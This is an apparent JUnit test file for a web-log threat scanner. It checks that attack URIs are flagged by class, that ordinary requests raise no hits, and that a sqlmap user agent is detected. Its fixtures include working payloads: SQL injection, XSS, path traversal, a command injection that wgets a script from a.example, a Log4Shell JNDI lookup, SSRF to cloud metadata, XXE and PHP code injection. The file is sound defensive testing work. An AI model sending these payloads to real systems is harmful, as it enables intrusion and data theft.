package io.weir.threat;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.log.Escaping;
import io.weir.log.Slice;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ThreatScannerTest {
  private final ThreatScanner scanner = new ThreatScanner(ThreatScanner.DEFAULT_MIN_CONFIDENCE);

  private List<ThreatHit> scan(String uri, String agent, Escaping escaping) {
    int question = uri.indexOf('?');
    String path = question < 0 ? uri : uri.substring(0, question);
    Slice query = question < 0 ? new Slice() : Slice.of(uri.substring(question + 1));
    return scanner.scan(
        Slice.of("GET"), Slice.of(path), query, Slice.of(agent), new Slice(), escaping);
  }

  private List<ThreatHit> scan(String uri) {
    return scan(uri, "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Firefox/130.0", Escaping.NONE);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "SQL_INJECTION ~ /shop?id=12%20union%20all%20select%20name,pw%20from%20members",
        "SQL_INJECTION ~ /shop?id=12%27+or+%27a%27=%27a",
        "CROSS_SITE_SCRIPTING ~ /find?q=%3Csvg/onload=prompt(7)%3E",
        "PATH_TRAVERSAL ~ /img?f=..%2f..%2f..%2fetc%2fhostname",
        "COMMAND_INJECTION ~ /ping?host=10.1.1.1;wget+http://a.example/x.sh",
        "LOG4SHELL ~ /?x=$%7B$%7Blower:j%7Dndi:ldap://a.example/z%7D",
        "TEMPLATE_INJECTION ~ /hello?name=%7B%7B3*17%7D%7D",
        "SENSITIVE_FILE ~ /.git/config",
        "HEADER_INJECTION ~ /go?to=/%0d%0aSet-Cookie:a=b",
        "REMOTE_FILE_INCLUSION ~ /fetch?u=http://169.254.169.254/latest/meta-data/",
        "XML_AND_DESERIALISATION ~ /x?d=%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20e%20SYSTEM%20%22file:///x%22%3E",
        "DIRECTORY_INJECTION ~ /login?user[$ne]=1",
        "CODE_INJECTION ~ /p?c=%3C?php%20system('id');"
      })
  void attack_isFoundInItsClass(ThreatClass expected, String uri) {
    assertThat(scan(uri)).extracting(ThreatHit::threatClass).contains(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/search?q=select+your+plan",
        "/search?q=O%27Reilly+and+sons",
        "/search?q=27%22+monitor+with+stand",
        "/login?redirect=https%3A%2F%2Fapp.example.com%2Fhome%3Ftab%3D2",
        "/a?filter=%7B%22age%22%3A%7B%22min%22%3A3%7D%7D",
        "/search?q=%D0%BA%D1%83%D0%BF%D0%B8%D1%82%D1%8C+%D1%81%D1%82%D0%BE%D0%BB",
        "/p/12?utm_source=news&utm_campaign=spring_sale&gclid=Cj0KCQ--aBcD",
        "/blog/2024/05/one-more-thing.html",
        "/mail?to=mary@example.org&subject=Re:+order+by+phone"
      })
  void ordinaryRequest_hasNoHits(String uri) {
    assertThat(scan(uri)).isEmpty();
  }

  @Test
  void scannerAgent_isFound() {
    assertThat(scan("/", "sqlmap/1.8#stable (https://sqlmap.org)", Escaping.NONE))
        .extracting(ThreatHit::threatClass)
        .contains(ThreatClass.SCANNER);
  }
}
